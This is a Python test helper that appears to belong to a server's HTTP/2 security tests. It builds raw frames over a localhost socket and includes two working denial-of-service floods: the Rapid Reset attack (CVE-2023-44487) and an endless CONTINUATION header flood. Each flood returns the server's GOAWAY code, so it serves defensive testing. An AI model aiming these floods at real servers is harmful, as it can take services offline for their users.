"""A minimal HTTP/2 client for attack tests: raw frames over a socket, HPACK literals only.
Real clients (curl, h2load) are used for everything else; this one sends what they won't."""

import socket
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
ENHANCE_YOUR_CALM = 0xB


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def hpack_int(value, prefix_bits, first_byte=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = bytearray([first_byte | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name, value):
    """Literal header field without indexing, new name (RFC 7541 6.2.2)."""
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_block(path, method="GET", authority="localhost", extra=()):
    fields = [(":method", method), (":scheme", "http"), (":authority", authority), (":path", path)] + list(extra)
    return b"".join(hpack_literal(n, v) for n, v in fields)


def settings(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


class RawConnection:
    def __init__(self, port, initial_settings=(), timeout=10):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self.sock.sendall(PREFACE + settings(initial_settings))
        self.buffer = b""

    def send(self, data):
        self.sock.sendall(data)

    def read_frame(self):
        """(type, flags, stream, payload), or None at end of stream."""
        while len(self.buffer) < 9 or len(self.buffer) < 9 + int.from_bytes(self.buffer[:3], "big"):
            chunk = self.sock.recv(65536)
            if not chunk:
                return None
            self.buffer += chunk
        length = int.from_bytes(self.buffer[:3], "big")
        kind, flags = self.buffer[3], self.buffer[4]
        stream = struct.unpack(">I", self.buffer[5:9])[0] & 0x7FFFFFFF
        payload = self.buffer[9:9 + length]
        self.buffer = self.buffer[9 + length:]
        return kind, flags, stream, payload

    def goaway_code(self):
        """Reads until GOAWAY or close: its error code, or None if the connection just ended."""
        try:
            while True:
                got = self.read_frame()
                if got is None:
                    return None
                if got[0] == GOAWAY:
                    return struct.unpack(">I", got[3][4:8])[0]
        except (ConnectionResetError, socket.timeout):
            return None

    def close(self):
        self.sock.close()


def rapid_reset_flood(conn, streams=400):
    """CVE-2023-44487: HEADERS then RST_STREAM (CANCEL) on many streams; the GOAWAY code or None."""
    flood = b""
    for i in range(streams):
        stream = 1 + 2 * i
        flood += frame(HEADERS, END_HEADERS | END_STREAM, stream, request_block("/"))
        flood += frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))  # CANCEL
    try:
        conn.send(flood)
    except OSError:
        pass
    return conn.goaway_code()


def continuation_flood(conn, frames=2000):
    """A header block that never ends (CONTINUATION without END_HEADERS); the GOAWAY code or None."""
    try:
        conn.send(frame(HEADERS, 0, 1, request_block("/")))
        piece = hpack_literal("x-flood", "a" * 4000)
        for _ in range(frames):
            conn.send(frame(CONTINUATION, 0, 1, piece))
    except OSError:
        pass  # the server closed the connection mid-flood
    return conn.goaway_code()
